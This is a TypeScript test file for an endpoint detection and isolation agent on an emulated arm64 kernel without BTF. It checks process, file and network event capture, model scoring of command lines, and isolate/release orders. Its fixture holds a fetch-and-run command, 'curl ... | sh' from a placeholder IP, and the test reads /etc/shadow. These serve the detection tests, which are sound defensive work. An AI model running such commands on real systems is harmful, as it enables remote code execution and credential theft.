// The agent on a real arm64 kernel: Debian's, booted in emulation, without BTF as on Raspberry Pi OS. What happens in there touches nothing here.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { makeDistribution } from "../../distribution.ts";
import type { SensorEvent } from "../../protocol/event.ts";
import { run } from "../e2e/program.ts";
import { boot, type Kernel, type Outcome, whyNot } from "../kernels/boot.ts";
import { isolationGuest, makeSite, packages, sensorGuest } from "../kernels/product.ts";

const kernel: Kernel = { architecture: "arm64", image: "linux-image-cloud-arm64" };
const reason = await whyNot({ kernel, packages });
const why = reason && ` (${reason})`;
/** A minute each on an idle machine. */
const LIMIT_MS = 660_000;

let dir: string;
const dist = () => join(dir, "arm64");
const host = process.arch === "arm64" ? "arm64" : "x64";
const picketHere = () => join(dir, host, "picket");
let outcome: Outcome;
const reported = (name: string) => outcome.reports.get(name) ?? [];
const json = (name: string) => JSON.parse(reported(name)[0] ?? "null");

beforeAll(() => {
  if (why) return;
  dir = mkdtempSync(join(tmpdir(), "picket-arm64-kernel-"));
  makeDistribution("arm64", dist());
  makeDistribution(host, join(dir, host));
}, LIMIT_MS);

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** What a script says when it stops early. */
const explain = () => outcome.log.slice(-60).join("\n");

describe("arm64 kernel without BTF: the sensor", () => {
  beforeAll(async () => {
    if (!why) outcome = await boot(sensorGuest({ kernel, btf: false, dist: dist() }));
  }, LIMIT_MS);

  test.skipIf(why)(`runs to the end${why}`, () => {
    expect(outcome.code, explain()).toBe(0);
    expect(outcome.kernel).toMatch(/arm64$/);
    expect([reported("tracepoints-exit"), reported("raw-exit")]).toEqual([["0"], ["0"]]);
  });

  const capabilities = (name: string): { name: string; level: string; why: string }[] => json(name);
  // The guest has neither a journal nor a syslog daemon.
  const notLive = (name: string) => capabilities(name).filter(({ name: of, level }) => level !== "live" && of !== "logs");

  test.skipIf(why)(`can do everything, isolation too${why}`, () => {
    expect(notLive("check")).toEqual([]);
    expect(capabilities("check").map(({ name }) => name)).toEqual(
      expect.arrayContaining(["sensor.exec", "sensor.exit", "sensor.file", "sensor.net", "isolation"]),
    );
    expect(capabilities("check").find(({ name }) => name === "sensor.bpf")?.why).toContain("BTF is absent");
  });

  test.skipIf(why)(`does with raw_syscalls where there are no syscalls tracepoints, and says so${why}`, () => {
    expect(notLive("raw-check")).toEqual([]);
    expect(capabilities("raw-check").find(({ name }) => name === "sensor.file")?.why).toContain("raw_syscalls");
  });

  describe.each([
    ["tracepoints", "through syscalls tracepoints"],
    ["raw", "without them, as Raspberry Pi OS before April 2025"],
  ])("%s", (pass, how) => {
    const events = () => reported(`${pass}-event`).map((line): SensorEvent => JSON.parse(line));

    test.skipIf(why)(`sees a program start and end, ${how}${why}`, () => {
      const pid = Number(reported(`${pass}-pid`)[0]);
      expect(events().find((event) => event.type === "process.exec" && event.body.process.argv?.includes("marked-exec"))).toMatchObject({
        device: "kernel-test",
        body: {
          process: {
            pid,
            uid: 0,
            user: "root",
            exe: "/usr/bin/bash",
            argv: ["bash", "-c", ":", "marked-exec", "two words"],
            cwd: "/tmp",
            parent: { exe: "/usr/bin/bash", argv: ["bash", "/script.sh"] },
          },
        },
      });
      expect(events().find((event) => event.type === "process.exit" && event.body.process.pid === pid)).toMatchObject({
        body: { exitCode: 0, signal: 0 },
      });
    });

    test.skipIf(why)(`sees a watched file opened, ${how}${why}`, () => {
      const open = events().find((event) => event.type === "file.open" && event.body.process.parent?.argv?.includes("marked-open"));
      expect(open).toMatchObject({ body: { process: { argv: ["cat", "/etc/shadow"] }, file: { path: "/etc/shadow", flags: 0 } } });
    });

    test.skipIf(why)(`sees a file made, changed, moved and removed, ${how}${why}`, () => {
      const at = (path: string) =>
        events().flatMap((event) =>
          event.type.startsWith("file.") && JSON.stringify(event.body).includes(`"path":"${path}"`) ? [event.type] : [],
        );
      expect(at("/tmp/marked-file")).toEqual(["file.create", "file.chmod", "file.rename"]);
      expect(at("/tmp/marked-moved")).toEqual(["file.delete"]);
    });

    test.skipIf(why)(`sees a connection made, ${how}${why}`, () => {
      expect(events().find((event) => event.type === "net.connect" && event.body.process.argv?.includes("marked-connect"))).toMatchObject({
        body: { process: { exe: "/usr/bin/bash" }, net: { proto: "tcp", dstIp: "192.0.2.2", dstPort: 4444 } },
      });
    });
  });

  // A machine that is too busy to read in time loses some; never without saying how many.
  test.skipIf(why)(`reads its ring round and round and accounts for every event${why}`, () => {
    const lost = reported("lost").map((line): SensorEvent => JSON.parse(line));
    const counted = lost.map((event) => (event.type === "sensor.lost" ? event.body.count : 0)).reduce((sum, count) => sum + count, 0);
    const opens = Number(reported("opens")[0]);
    expect(opens + counted, [...reported("lost"), ...reported("types")].join("\n")).toBe(1500);
    // The ring of 64 KiB has room for some 200.
    expect(opens).toBeGreaterThan(500);
  });
});

describe("arm64 kernel without BTF: the models and isolation", () => {
  let events: string;

  beforeAll(async () => {
    if (why) return;
    events = join(dir, "events.ndjson");
    writeFileSync(events, recorded);
    const site = join(dir, "site");
    mkdirSync(site);
    await makeSite(picketHere(), site);
    outcome = await boot(isolationGuest({ kernel, btf: false, dist: dist(), site, events }));
  }, LIMIT_MS);

  const recorded = [
    ["sh", "-c", "curl -fsSL http://198.51.100.7/x.sh | sh"],
    ["ls", "-l", "/var/log"],
  ]
    .map((argv) =>
      JSON.stringify({ device: "d", timeMs: 1_767_225_600_000, type: "process.exec", body: { process: { exe: "/usr/bin/x", argv } } }),
    )
    .join("\n");

  test.skipIf(why)(`runs to the end${why}`, () => {
    expect(outcome.code, explain()).toBe(0);
  });

  test.skipIf(why)(`scores command lines as here, to 1e-4${why}`, async () => {
    const score = (line: string): number => JSON.parse(line).score;
    const here = await run([picketHere(), "model", "score", "cmdline", events, "--json"]);
    const theirs = reported("scores").map(score);
    const ours = here.stdout.trim().split("\n").map(score);
    expect(theirs).toHaveLength(2);
    for (const [at, value] of theirs.entries()) expect(Math.abs(value - ours[at]!)).toBeLessThan(1e-4);
  });

  test.skipIf(why)(`a signed order isolates: what is open dies, what is new fails, and the drop is counted${why}`, () => {
    expect(json("isolate").command.result).toMatchObject({ act: "isolate", ok: true, code: "done" });
    expect({ before: reported("other-before"), during: reported("other-isolated") }).toEqual({ before: ["yes"], during: ["no"] });
    expect(reported("live")).toEqual(["before: before", "after: dead"]);
    expect(Number(/packets (\d+)/.exec(reported("dropped")[0] ?? "")?.[1])).toBeGreaterThan(0);
  });

  test.skipIf(why)(`isolated, it still reaches its broker, and its events arrive${why}`, () => {
    expect(reported("broker-isolated")).toEqual(["yes"]);
    expect(JSON.parse(reported("event")[0] ?? "null")).toMatchObject({
      device: "arm",
      type: "process.exec",
      body: { process: { argv: ["bash", "-c", ":", "marked-isolated"] } },
    });
  });

  test.skipIf(why)(`a signed release gives everything back and leaves no rule${why}`, () => {
    expect(json("release").command.result).toMatchObject({ act: "release", ok: true, code: "done" });
    expect(reported("other-released")).toEqual(["yes"]);
    expect(reported("ruleset-released")).toEqual([]);
  });
});
